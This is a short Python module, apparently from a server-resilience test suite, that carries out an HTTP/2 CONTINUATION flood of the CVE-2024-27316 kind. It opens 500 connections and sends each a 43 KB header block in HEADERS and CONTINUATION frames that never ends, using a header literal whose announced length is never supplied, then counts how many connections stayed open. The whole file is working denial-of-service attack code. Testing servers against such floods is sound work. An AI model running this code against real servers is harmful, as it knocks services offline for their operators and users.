"""Header blocks of 43 KB in HEADERS and CONTINUATION, without END_HEADERS.

CVE-2024-27316 and its relatives (CONTINUATION flood): many connections, each within
every limit on the size of a head, and none of them ever a request.
"""

import frames
from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments", "static"), seconds=(10, 20), short=("10Mi", "32Mi"))
CONNECTIONS = 500
PIECE = 10_800  # of a head; four of them


async def run(target):
    # A literal whose value is announced longer than it will ever be.
    block = frames.head() + b"\x00" + frames.string(b"x-endless") + frames.integer(60_000, 7)
    first = frames.frame(frames.HEADERS, frames.END_STREAM, 1, block + b"x" * (PIECE - len(block)))
    more = frames.frame(frames.CONTINUATION, 0, 1, b"x" * PIECE)

    # All of them come first, while there is room for connections.
    opened = await target.many(CONNECTIONS, lambda _: target.http2(frames.opening()))
    await target.one_after_another(opened, first + more * 3, 0.005)
    await target.wait()
    return f"{len(opened)} connections with 43 KB of a head, {still_open(opened)} stayed"
